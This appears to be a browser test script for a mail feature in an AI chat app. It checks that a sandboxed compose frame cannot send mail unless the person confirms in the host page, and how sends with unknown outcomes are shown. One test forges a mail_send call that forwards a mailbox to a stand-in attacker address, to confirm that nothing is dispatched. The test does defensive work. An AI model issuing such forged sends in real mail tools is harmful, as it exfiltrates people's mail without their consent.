#!/usr/bin/env node
// Mail in a real Chromium, against a real stack (started by tests/mail_browser.rs: stand-in
// with its SMTP sink, mcp-mail, scripted model, orchestrator, dev host). A scripted turn
// searches, reads and composes; the compose app renders in its sandboxed frame; then:
//   - the frame posts mail_send on its own (no click at all): the island shows its own
//     confirmation and nothing is dispatched; Cancel answers the frame;
//   - Send clicked in the frame, Cancel in the island's confirmation: nothing is dispatched;
//   - Send clicked in the frame, Send in the island's confirmation: one dispatch;
//   - a mail whose send has an unknown outcome (the sink's scripted unclear.example.net, and
//     slow.example.net past mcp-mail's bridge timeout): the frame shows the tool's message,
//     Send stays off, and the island offers no second confirmation or retry.
// Reports facts as JSON on stdout; tests/mail_browser.rs decides, and checks the sink.
//
// Environment: BASE_URL (the dev host), ARTIFACTS (screenshots), CHROMIUM; UNKNOWN_OUTCOMES
// (JSON {check name: prompt} for the unknown-outcome checks), DEMO=0 skips the demo's checks.
import { join } from 'node:path';
import { appFrame, axe, colours, finishedTools, frameRpc, frameTheme, inChat, replyDone, required, runCheck, say, setPageTheme } from './lib.mjs';

const BASE = required('BASE_URL').replace(/\/+$/, '');
const ARTIFACTS = required('ARTIFACTS');
const result = { checks: {}, console: [], pageErrors: [] };

async function main() {
  await inChat({ base: BASE, artifacts: ARTIFACTS, result, record: 'request' }, async ({ page, appCalls: doors }) => {
    if (process.env.DEMO !== '0') {
      const compose = await runCheck(result, 'compose_frame_renders', () => composeFrame(page));
      if (!compose?.frame) return;
      await runCheck(result, 'compose_frame_follows_the_page_theme', () => composeTheme(page, compose.frame));
      await runCheck(result, 'frame_request_alone_sends_nothing', () => frameAlone(page, compose.frame, doors));
      await runCheck(result, 'cancel_in_the_island_sends_nothing', () => clickSend(page, compose.frame, doors, 'cancel'));
      await runCheck(result, 'confirm_in_the_island_sends', () => clickSend(page, compose.frame, doors, 'confirm'));
    }
    for (const [name, prompt] of Object.entries(JSON.parse(process.env.UNKNOWN_OUTCOMES || '{}'))) {
      await runCheck(result, name, () => unknownOutcome(page, prompt, doors, name));
    }
  });
}

async function composeFrame(page) {
  await say(page, 'Write a mail to Bob about the budget');
  const tool = finishedTools(page, 'mail_compose');
  await tool.waitFor();
  const { iframe, frame } = await appFrame(tool);
  await frame.locator('#send:not([disabled])').waitFor();
  await replyDone(page);
  const shown = await frame.evaluate(() => ({
    from: document.getElementById('from').textContent,
    to: document.getElementById('to').textContent,
    subject: document.getElementById('subject').textContent,
    body: document.getElementById('body').textContent,
  }));
  const tools = await page.locator('.tool').evaluateAll((nodes) => nodes.map((n) => n.getAttribute('data-tool')));
  const attrs = await iframe.evaluate((f) => ({ sandbox: f.getAttribute('sandbox'), src: f.getAttribute('src') }));
  await page.screenshot({ path: join(ARTIFACTS, 'mail-compose.png'), fullPage: true });
  return { frame, report: { shown, tools, ...attrs } };
}

/** The compose frame opened light under an OS set to dark (the page is light), and follows the
 * page to dark under an OS set to light, without a reload; axe inside the frame on its own. */
async function composeTheme(page, frame) {
  const osDarkPageLight = await colours(page, frame);
  const axeLight = await axe(frame);
  await frame.evaluate(() => { window.__notReloaded = true; });
  await page.emulateMedia({ colorScheme: 'light' });
  await setPageTheme(page, 'dark');
  await frameTheme(frame, 'dark');
  const osLightPageDark = await colours(page, frame);
  const axeDark = await axe(frame);
  await page.screenshot({ path: join(ARTIFACTS, 'mail-compose-dark.png'), fullPage: true });
  await page.emulateMedia({ colorScheme: 'dark' });
  await setPageTheme(page, 'light');
  await frameTheme(frame, 'light');
  return { osDarkPageLight, osLightPageDark, axeLight, axeDark, notReloaded: await frame.evaluate(() => window.__notReloaded === true) };
}

/** The frame's script asks for mail_send by itself: only the island's own question appears. */
async function frameAlone(page, frame, doors) {
  const mark = doors.length;
  const forged = { to: ['archive@attacker.example.net'], cc: [], bcc: [], subject: 'Everything', body: 'forwarded mailbox' };
  const answer = frameRpc(frame, 'tools/call', { name: 'mail_send', arguments: forged });
  const card = page.getByTestId('dispatch-confirm');
  await card.waitFor();
  const cardText = await card.innerText();
  const whileAsking = doors.slice(mark).map((d) => d.path);
  await card.getByTestId('cancel-dispatch').click();
  const reply = await answer;
  await card.waitFor({ state: 'detached' });
  return { cardText, whileAsking, after: doors.slice(mark).map((d) => d.path), reply };
}

/** A click on the frame's Send, then the person's answer in the island's confirmation. */
async function clickSend(page, frame, doors, answer) {
  const mark = doors.length;
  await frame.locator('#send:not([disabled])').click();
  const card = page.getByTestId('dispatch-confirm');
  await card.waitFor();
  const confirmation = {
    to: await card.getByTestId('confirm-to').innerText(),
    subject: await card.getByTestId('confirm-subject').innerText(),
    body: await card.getByTestId('confirm-body').innerText(),
  };
  await page.screenshot({ path: join(ARTIFACTS, `mail-confirm-${answer}.png`), fullPage: true });
  // Focus meets the island's question on its harmless button; axe on the page as it asks.
  const focusOnCard = await page.evaluate(() => document.activeElement?.getAttribute('data-testid') ?? null);
  const axeConfirm = await axe(page);
  await card.getByTestId(answer === 'confirm' ? 'confirm-dispatch' : 'cancel-dispatch').click();
  const status = frame.locator('#status');
  await status.filter({ hasText: answer === 'confirm' ? 'Sent.' : 'Not sent.' }).waitFor();
  await page.screenshot({ path: join(ARTIFACTS, `mail-after-${answer}.png`), fullPage: true });
  const requests = doors.slice(mark);
  return {
    confirmation,
    focusOnCard,
    axe: axeConfirm,
    focusAfter: await page.evaluate(() => document.activeElement?.getAttribute('data-testid') ?? null),
    frameStatus: await status.innerText(),
    paths: requests.map((d) => d.path),
    dispatched: requests.filter((d) => d.path.endsWith('/dispatch')).map((d) => JSON.parse(d.body)),
  };
}

/** A turn composes a mail whose send ends with an unknown outcome; Send, then Send in the
 * island: what the person sees after the one dispatch, and that nothing offers another. */
async function unknownOutcome(page, prompt, doors, name) {
  const composed = finishedTools(page, 'mail_compose');
  const before = await composed.count();
  await say(page, prompt);
  const { frame } = await appFrame(composed.nth(before));
  await frame.locator('#send:not([disabled])').waitFor();
  await replyDone(page);
  const to = await frame.locator('#to').innerText();
  const mark = doors.length;
  await frame.locator('#send:not([disabled])').click();
  const card = page.getByTestId('dispatch-confirm');
  await card.waitFor();
  const confirmTo = await card.getByTestId('confirm-to').innerText();
  await card.getByTestId('confirm-dispatch').click();
  await card.waitFor({ state: 'detached' });
  const status = frame.locator('#status');
  // Whatever the frame says once the dispatch has answered (it says "Waiting…" until then).
  await frame.waitForFunction(() => !/Waiting/.test(document.getElementById('status').textContent));
  await page.screenshot({ path: join(ARTIFACTS, `mail-${name}.png`), fullPage: true });
  const buttons = (root) => root.locator('button').evaluateAll((nodes) => nodes.map((n) => ({ text: n.textContent.trim(), disabled: n.disabled })));
  const shown = await status.innerText();
  const frameStatusClass = await status.getAttribute('class');
  const frameButtons = await buttons(frame);
  // A click on Send as it now is: were it live, the frame would at once say it is waiting
  // for a confirmation again (act() sets that before anything else).
  await frame.locator('#send').click({ force: true });
  return {
    to,
    confirmTo,
    frameStatus: shown,
    frameStatusAfterClick: await status.innerText(),
    frameStatusClass,
    frameButtons,
    cardsAfter: await page.getByTestId('dispatch-confirm').count(),
    islandButtons: (await buttons(page)).map((b) => b.text),
    dispatched: doors.slice(mark).filter((d) => d.path.endsWith('/dispatch')).map((d) => JSON.parse(d.body)),
  };
}

main().catch((error) => {
  console.error(`browser-tests: ${error?.stack ?? error}`);
  process.exit(1);
});
